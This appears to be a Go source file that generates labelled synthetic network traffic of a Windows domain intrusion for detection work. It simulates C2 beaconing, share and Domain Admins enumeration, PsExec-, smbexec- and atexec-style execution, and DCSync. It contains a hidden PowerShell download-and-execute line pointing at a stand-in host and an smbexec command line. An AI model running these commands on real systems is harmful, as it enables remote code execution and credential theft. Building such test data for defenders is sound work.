package demogen

import (
	"crypto/sha256"
	"encoding/hex"
	"net/netip"
	"strconv"
	"time"
)

// The intrusion. One workstation (the "patient zero") beacons every
// minute to a controller on the outside; halfway through the sample its
// operator, holding the credentials of CORP\svc_backup, enumerates shares
// and Domain Admins, runs a service binary on two workstations
// (PsExec-like), a command through a service on the file server
// (smbexec-like), a PowerShell line through a scheduled task on a third
// workstation (atexec-like), and finally replicates the secrets of krbtgt
// and Administrator from the domain controller (DCSync). A second
// workstation beacons slowly; a third polls a weather widget on a clock
// (benign: the hard negative).

// Roles by workstation index (taken modulo the number of workstations,
// so smaller samples keep them distinct).
const (
	idxPatientZero = 6
	idxSlowBeacon  = 30
	idxWidget      = 8
	idxPsexecA     = 22
	idxPsexecB     = 27
	idxAtexec      = 13
)

var (
	c2Fast = site{"cdn-sync.example.net", netip.MustParseAddr("203.0.113.77")}
	c2Slow = site{"static-img.example.net", netip.MustParseAddr("192.0.2.151")}
	widget = site{"weather-widget.example.org", netip.AddrFrom4([4]byte{198, 18, 12, 61})}
)

const (
	drsPort     = 49667
	serviceName = "UpdaterSvc"
	serviceDisp = "Windows Update Helper"
	toolName    = "updater.exe"
	taskPath    = `\WindowsHealthCheck`
	smbexecSvc  = "WinSvcHealth"
)

// roles picks distinct workstations for the parts of the story.
func (n *network) roles() (zero, slow, widgetHost, psA, psB, at *host) {
	used := map[int]bool{}
	pick := func(i int) *host {
		i %= len(n.ws)
		for used[i] {
			i = (i + 1) % len(n.ws)
		}
		used[i] = true
		return n.ws[i]
	}
	return pick(idxPatientZero), pick(idxSlowBeacon), pick(idxWidget), pick(idxPsexecA), pick(idxPsexecB), pick(idxAtexec)
}

// attack schedules the malicious part and its labels.
func (p *plan) attack() {
	n := p.net
	zero, slow, wh, psA, psB, at := n.roles()
	l := p.labels
	start, d := p.cfg.Start, p.cfg.Duration

	fast := beaconSpec{name: c2Fast.name, srv: outside(c2Fast.addr, 49), interval: 60, jitter: 0.2,
		miss: 0.03, task: 0.03, req: 320, resp: 180, taskKB: 40, from: start.Add(d * 3 / 100), think: 40 * time.Millisecond}
	p.beacon(zero, fast)
	slowB := beaconSpec{name: c2Slow.name, srv: outside(c2Slow.addr, 51), interval: 480, jitter: 0.1, normal: true,
		miss: 0.05, task: 0.05, req: 500, resp: 250, taskKB: 10, from: start.Add(secs(90)), think: 60 * time.Millisecond}
	p.beacon(slow, slowB)
	l.C2Pairs = append(l.C2Pairs,
		Pair{Src: zero.addr.String(), Dst: c2Fast.addr.String(), Port: 443, Name: c2Fast.name, Interval: 60, Note: "±20% uniform jitter, 3% missed"},
		Pair{Src: slow.addr.String(), Dst: c2Slow.addr.String(), Port: 443, Name: c2Slow.name, Interval: 480, Note: "±10% normal jitter, 5% missed"})
	l.Compromised = append(l.Compromised, zero.addr.String(), slow.addr.String())

	// The hard negative: a desktop widget on one workstation refreshing
	// every two minutes on the clock, from a popular provider network.
	for t := start.Add(secs(p.r.uniform(30, 90))); t.Before(p.end); t = t.Add(120 * time.Second) {
		p.https(wh, outside(widget.addr, 52), widget.name, 443, t, noisy(p.r, 350, 0.02), noisy(p.r, 2200, 0.02), 30*time.Millisecond)
	}
	l.HardNegative = append(l.HardNegative, Pair{Src: wh.addr.String(), Dst: widget.addr.String(), Port: 443, Name: widget.name,
		Interval: 120, Note: "benign widget refresh, one host, no jitter"})

	// The operator works through the steps by hand: minutes apart, at no
	// round second. The same implant is copied to every target.
	a := &intrusion{p: p, src: zero, acct: account{nbDomain, "svc_backup", zero.name}, tool: toolBinary(p.r)}
	t := start.Add(d / 2)
	at0 := func(minutes float64) time.Time { return t.Add(secs(float64(minutes*60) + p.r.uniform(2, 40))) }
	a.recon(n.dc, at0(0), true)
	a.recon(n.fs, at0(2), false)
	a.psexec(psA, at0(5))
	a.psexec(psB, at0(9))
	a.smbexec(n.fs, at0(14), "whoami /all")
	a.atexec(at, at0(18), "powershell.exe",
		`-NoP -NonI -W Hidden -C "IEX (New-Object Net.WebClient).DownloadString('https://`+c2Fast.name+`/s.ps1')"`)
	a.dcsync(at0(25))
	for _, lp := range []struct {
		h    *host
		port int
	}{{n.dc, 445}, {n.fs, 445}, {psA, 445}, {psB, 445}, {at, 445}, {n.dc, 135}, {n.dc, drsPort}} {
		l.LateralPairs = append(l.LateralPairs, Pair{Src: zero.addr.String(), Dst: lp.h.addr.String(), Port: lp.port, Name: lp.h.name})
	}
}

// intrusion builds the operator's conversations and records each remote
// operation as replay should report it.
type intrusion struct {
	p    *plan
	src  *host
	acct account
	tool []byte // the service binary copied to the targets
}

func (a *intrusion) op(o Operation, at time.Time, dst *host, step string) {
	o.User, o.Domain, o.Workstation = a.acct.user, a.acct.domain, a.acct.workstation
	a.anonymous(o, at, dst, step)
}

// anonymous records an operation on a connection that never
// authenticated (the endpoint mapper).
func (a *intrusion) anonymous(o Operation, at time.Time, dst *host, step string) {
	o.Time, o.Src, o.Dst, o.Step = at.UTC(), a.src.addr.String(), dst.addr.String(), step
	a.p.labels.Operations = append(a.p.labels.Operations, o)
}

// session opens an SMB connection from the patient zero to dst and logs
// on as the stolen account.
func (a *intrusion) session(out *[]packet, r *rng, t time.Time, dst *host, cport uint16) *smbClient {
	c := newTCP(out, r, t, a.src.node, dst.node, cport, 445, lanRTT(r), lanRate)
	c.handshake()
	s := &smbClient{c: c, r: r, think: 2 * time.Millisecond, serve: 400 * time.Microsecond}
	s.login(a.p.net.smbPeer(dst, r), a.acct)
	return s
}

// ipc connects IPC$ and records the (plumbing) operation.
func (a *intrusion) ipc(s *smbClient, dst *host, step string) uint32 {
	path := `\\` + dst.name + `\IPC$`
	tree, at := s.treeConnect(path, sharePipe, maxAccessIPC)
	a.op(Operation{Kind: "tree", Interface: "smb", Operation: "tree connect", Target: path, Plumbing: true}, at, dst, step)
	return tree
}

var (
	dcShares = []share{{"ADMIN$", "Remote Admin", stypeDisktree | stypeSpecial}, {"C$", "Default share", stypeDisktree | stypeSpecial},
		{"IPC$", "Remote IPC", stypeIPC | stypeSpecial}, {"NETLOGON", "Logon server share ", stypeDisktree}, {"SYSVOL", "Logon server share ", stypeDisktree}}
	fsShares = []share{{"ADMIN$", "Remote Admin", stypeDisktree | stypeSpecial}, {"Backup", "Nightly backups", stypeDisktree},
		{"C$", "Default share", stypeDisktree | stypeSpecial}, {"D$", "Default share", stypeDisktree | stypeSpecial},
		{"Departments", "", stypeDisktree}, {"Finance", "", stypeDisktree}, {"IPC$", "Remote IPC", stypeIPC | stypeSpecial}, {"Scans", "", stypeDisktree}}
)

// recon enumerates the shares of dst and, on the domain controller, the
// domain's users and the members of Domain Admins (T1135, T1087.002,
// T1069.002).
func (a *intrusion) recon(dst *host, t time.Time, domain bool) {
	p := a.p
	cport := p.port(a.src.addr)
	p.conns++
	p.add(t, func(out *[]packet, r *rng) {
		const step = "recon"
		s := a.session(out, r, t, dst, cport)
		ipc := a.ipc(s, dst, step)
		server := `\\` + dst.name
		pipe := s.openPipe(ipc, "srvsvc", true)
		pipe.bind(ifSrvsvc)
		shares := fsShares
		if domain {
			shares = dcShares
		}
		q, v := srvShareEnum(server, shares)
		at := pipe.call(opNetrShareEnum, q, v)
		a.op(Operation{Kind: "rpc", Interface: "srvsvc", Operation: "NetrShareEnum", Target: server, Technique: "T1135"}, at, dst, step)
		pipe.close()
		if domain {
			a.domainRecon(s, ipc, dst, r)
		}
		s.logoff(ipc)
	})
}

func (a *intrusion) domainRecon(s *smbClient, ipc uint32, dc *host, r *rng) {
	const step = "recon"
	n := a.p.net
	pipe := s.openPipe(ipc, "samr", true)
	pipe.bind(ifSamr)
	op := func(o Operation, at time.Time) {
		o.Kind, o.Interface = "rpc", "samr"
		a.op(o, at, dc, step)
	}
	srvH, domH, grpH := newHandle(r), newHandle(r), newHandle(r)
	q, v := samrConnect5(`\\`+dc.fqdn(), srvH)
	op(Operation{Operation: "Connect5", Plumbing: true}, pipe.call(opSamrConnect5, q, v))
	q, v = samrLookupDomain(srvH, nbDomain, domainSID)
	op(Operation{Operation: "LookupDomainInSamServer", Target: nbDomain, Technique: "T1087.002"}, pipe.call(opSamrLookupDomain, q, v))
	q, v = samrOpenDomain(srvH, domainSID, domH)
	op(Operation{Operation: "OpenDomain", Target: nbDomain, Plumbing: true}, pipe.call(opSamrOpenDomain, q, v))
	q, v = samrEnumerateUsers(domH, n.users)
	op(Operation{Operation: "EnumerateUsersInDomain", Target: nbDomain, Technique: "T1087.002"}, pipe.call(opSamrEnumerateUsers, q, v))
	q, v = samrLookupNames(domH, []string{"Domain Admins"}, []uint32{512}, []uint32{sidTypeGroup})
	op(Operation{Operation: "LookupNamesInDomain", Target: nbDomain + `\Domain Admins`, Technique: "T1087.002"}, pipe.call(opSamrLookupNamesInDomain, q, v))
	q, v = samrOpenGroup(domH, 512, grpH)
	op(Operation{Operation: "OpenGroup", Target: nbDomain + `\Domain Admins`, Plumbing: true}, pipe.call(opSamrOpenGroup, q, v))
	admins := []ridName{{500, "Administrator"}, {1103, "svc_backup"}, {1105, "it.admin"}}
	rids := []uint32{500, 1103, 1105}
	q, v = samrGetMembers(grpH, rids)
	op(Operation{Operation: "GetMembersInGroup", Target: nbDomain + `\Domain Admins`, Technique: "T1069.002"}, pipe.call(opSamrGetMembersInGroup, q, v))
	q, v = samrLookupIds(domH, admins)
	op(Operation{Operation: "LookupIdsInDomain", Target: nbDomain, Technique: "T1087.002"}, pipe.call(opSamrLookupIdsInDomain, q, v))
	for _, h := range []ctxHandle{grpH, domH, srvH} {
		q, v = samrClose(h)
		op(Operation{Operation: "CloseHandle", Plumbing: true}, pipe.call(opSamrCloseHandle, q, v))
	}
	pipe.close()
}

// toolBinary is the service binary copied to the targets: a PE header
// and pseudo-random code.
func toolBinary(r *rng) []byte {
	b := make([]byte, 0, 38912)
	b = append(b, 'M', 'Z', 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0)
	b = append(b, make([]byte, 44)...)
	b = append(b, 0x80, 0, 0, 0) // e_lfanew
	b = append(b, []byte("\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$\x00\x00\x00\x00\x00\x00\x00")...)
	for len(b) < 0x80 {
		b = append(b, 0)
	}
	b = append(b, 'P', 'E', 0, 0, 0x64, 0x86) // PE, x64
	return append(b, r.bytes(cap(b)-len(b))...)
}

// svcctl runs binPath as a service on dst: OpenSCManagerW,
// CreateServiceW, StartServiceW, DeleteService, CloseServiceHandle x2.
func (a *intrusion) svcctl(s *smbClient, ipc uint32, dst *host, step, name, display, binPath string, startStatus uint32, r *rng) {
	pipe := s.openPipe(ipc, "svcctl", false)
	pipe.bind(ifSvcctl)
	op := func(o Operation, at time.Time) {
		o.Kind, o.Interface = "rpc", "svcctl"
		a.op(o, at, dst, step)
	}
	scm, svc := newHandle(r), newHandle(r)
	q, v := scmOpenSCManager(dst.name, scm)
	op(Operation{Operation: "OpenSCManagerW", Target: dst.name}, pipe.call(opOpenSCManagerW, q, v))
	q, v = scmCreateService(scm, name, display, binPath, svc)
	op(Operation{Operation: "CreateServiceW", Target: name, Command: binPath, Technique: "T1569.002"}, pipe.call(opCreateServiceW, q, v))
	q, v = scmStartService(svc, startStatus)
	op(Operation{Operation: "StartServiceW", Target: name, Technique: "T1569.002"}, pipe.call(opStartServiceW, q, v))
	s.c.wait(time.Duration(1500+r.intn(1500)) * time.Millisecond)
	q, v = scmDeleteService(svc)
	op(Operation{Operation: "DeleteService", Target: name}, pipe.call(opDeleteService, q, v))
	for _, h := range []ctxHandle{svc, scm} {
		q, v = scmCloseHandle(h)
		op(Operation{Operation: "CloseServiceHandle", Plumbing: true}, pipe.call(opCloseServiceHandle, q, v))
	}
	pipe.close()
}

// psexec copies the tool to ADMIN$ on dst and runs it as a service
// (T1021.002, T1570, T1569.002).
func (a *intrusion) psexec(dst *host, t time.Time) {
	p := a.p
	cport := p.port(a.src.addr)
	p.conns++
	p.add(t, func(out *[]packet, r *rng) {
		const step = "psexec"
		s := a.session(out, r, t, dst, cport)
		admin := `\\` + dst.name + `\ADMIN$`
		tree, at := s.treeConnect(admin, shareDisk, maxAccessAdmin)
		a.op(Operation{Kind: "tree", Interface: "smb", Operation: "tree connect", Target: admin, Technique: "T1021.002"}, at, dst, step)
		bin := a.tool
		fid := s.open(tree, toolName, accessGenericRW, attrNormal, 0, dispOverwriteIf, optNonDirectory, actionCreated, 0)
		at = s.write(tree, fid, bin)
		s.close(tree, fid)
		sum := sha256.Sum256(bin)
		a.op(Operation{Kind: "file", Interface: "smb", Operation: "write file", Target: admin + `\` + toolName,
			Technique: "T1570", SHA256: hex.EncodeToString(sum[:])}, at, dst, step)
		ipc := a.ipc(s, dst, step)
		a.svcctl(s, ipc, dst, step, serviceName, serviceDisp, `%SystemRoot%\`+toolName, errServiceNoProblem, r)
		s.logoff(tree, ipc)
	})
}

// smbexec runs command through a service whose binary path is a cmd.exe
// line writing to C$\__output, then reads the output back (T1569.002,
// T1021.002; the read is the command's output, T1569.002).
func (a *intrusion) smbexec(dst *host, t time.Time, command string) {
	p := a.p
	cport := p.port(a.src.addr)
	p.conns++
	p.add(t, func(out *[]packet, r *rng) {
		const step = "smbexec"
		s := a.session(out, r, t, dst, cport)
		ipc := a.ipc(s, dst, step)
		binPath := `%COMSPEC% /Q /c echo ` + command + ` ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat`
		a.svcctl(s, ipc, dst, step, smbexecSvc, smbexecSvc, binPath, errServiceTimeout, r)
		c := `\\` + dst.name + `\C$`
		tree, at := s.treeConnect(c, shareDisk, maxAccessAdmin)
		a.op(Operation{Kind: "tree", Interface: "smb", Operation: "tree connect", Target: c, Technique: "T1021.002"}, at, dst, step)
		output := []byte("\r\nUSER INFORMATION\r\n----------------\r\n\r\nUser Name           SID\r\n=================== ========\r\nnt authority\\system S-1-5-18\r\n")
		fid := s.open(tree, "__output", accessFileRead, attrNormal, shareAll, dispOpen, optNonDirectory, actionOpened, uint64(len(output)))
		at = s.do(smbCall{cmd: smbRead, tree: tree, req: readReq(fid, 0, 65536), resp: readResp(output)})
		s.close(tree, fid)
		sum := sha256.Sum256(output)
		// The file the service's command line redirected into: that
		// command's output, as replay links it.
		a.op(Operation{Kind: "file", Interface: "smb", Operation: "read command output", Target: c + `\__output`,
			Technique: "T1569.002", SHA256: hex.EncodeToString(sum[:])}, at, dst, step)
		s.logoff(ipc, tree)
	})
}

// atexec registers a hidden one-shot task running command as SYSTEM, runs
// it and deletes it (T1053.005).
func (a *intrusion) atexec(dst *host, t time.Time, command, args string) {
	p := a.p
	cport := p.port(a.src.addr)
	p.conns++
	p.add(t, func(out *[]packet, r *rng) {
		const step = "atexec"
		s := a.session(out, r, t, dst, cport)
		ipc := a.ipc(s, dst, step)
		pipe := s.openPipe(ipc, "atsvc", false)
		pipe.bind(ifTaskScheduler)
		op := func(o Operation, at time.Time) {
			o.Kind, o.Interface = "rpc", "ITaskSchedulerService"
			a.op(o, at, dst, step)
		}
		q, v := tschRegisterTask(taskPath, taskXML(command, args, s.c.t))
		op(Operation{Operation: "SchRpcRegisterTask", Target: taskPath, Command: command + " " + args, Technique: "T1053.005"},
			pipe.call(opSchRpcRegisterTask, q, v))
		q, v = tschRun(taskPath, guidFrom(r))
		op(Operation{Operation: "SchRpcRun", Target: taskPath, Technique: "T1053.005"}, pipe.call(opSchRpcRun, q, v))
		s.c.wait(time.Duration(2000+r.intn(1000)) * time.Millisecond)
		q, v = tschDelete(taskPath)
		op(Operation{Operation: "SchRpcDelete", Target: taskPath}, pipe.call(opSchRpcDelete, q, v))
		pipe.close()
		s.logoff(ipc)
	})
}

// dcsync asks the endpoint mapper where drsuapi listens, then replicates
// the secrets of krbtgt and Administrator (T1003.006).
func (a *intrusion) dcsync(t time.Time) {
	p := a.p
	dc := p.net.dc
	const step = "dcsync"
	epmPort, drsCport := p.port(a.src.addr), p.port(a.src.addr)
	p.conns += 2
	p.add(t, func(out *[]packet, r *rng) {
		c := newTCP(out, r, t, a.src.node, dc.node, epmPort, 135, lanRTT(r), lanRate)
		c.handshake()
		x := &rpcConn{c: c, r: r, think: 1 * time.Millisecond, serve: 300 * time.Microsecond}
		x.bind(ifEPM, "135", nil, ntlmServer{})
		q, v := epmMap(ifDrsuapi, drsPort, dc.addr)
		at := x.call(opEptMap, q, v)
		a.anonymous(Operation{Kind: "rpc", Interface: "epmapper", Operation: "ept_map", Target: "drsuapi", Plumbing: true}, at, dc, step)
		c.wait(time.Millisecond)
		c.close(0)
	})
	t2 := t.Add(secs(p.r.uniform(0.2, 1.5)))
	p.add(t2, func(out *[]packet, r *rng) {
		c := newTCP(out, r, t2, a.src.node, dc.node, drsCport, drsPort, lanRTT(r), lanRate)
		c.handshake()
		x := &rpcConn{c: c, r: r, think: 1 * time.Millisecond, serve: 500 * time.Microsecond}
		srv := p.net.smbPeer(dc, r).ntlm
		x.bind(ifDrsuapi, tcpPortString(drsPort), &a.acct, srv)
		op := func(o Operation, at time.Time) {
			o.Kind, o.Interface = "rpc", "drsuapi"
			a.op(o, at, dc, step)
		}
		h := newHandle(r)
		dsa, inv := guidOf("NTDS Settings "+dc.name), guidOf("invocation "+dc.name)
		q, v := drsBind(guidOf("Default-First-Site-Name"), h, r)
		op(Operation{Operation: "DRSBind", Plumbing: true}, x.call(opDRSBind, q, v))
		for i, acct := range []struct {
			cn  string
			rid uint32
		}{{"krbtgt", 502}, {"Administrator", 500}} {
			dn := "CN=" + acct.cn + ",CN=Users," + domainDN
			sid := sidBytes(domainSID + "-" + strconv.Itoa(int(acct.rid)))
			attrs := []drsAttr{
				{attSAMAccountName, utf16le(acct.cn)},
				{attObjectSid, sid},
				{attUnicodePwd, r.bytes(36)},
				{attNtPwdHistory, r.bytes(20 + 16*3)},
				{attSupplemental, r.bytes(300 + r.intn(200))},
			}
			q, v = drsGetNCChanges(h, dsa, inv, dn, guidOf(dn), sid, attrs, uint64(20480+4096*i))
			op(Operation{Operation: "DRSGetNCChanges", Target: dn, Technique: "T1003.006"}, x.call(opDRSGetNCChanges, q, v))
		}
		q, v = drsUnbind(h)
		op(Operation{Operation: "DRSUnbind", Plumbing: true}, x.call(opDRSUnbind, q, v))
		c.wait(time.Millisecond)
		c.close(0)
	})
}
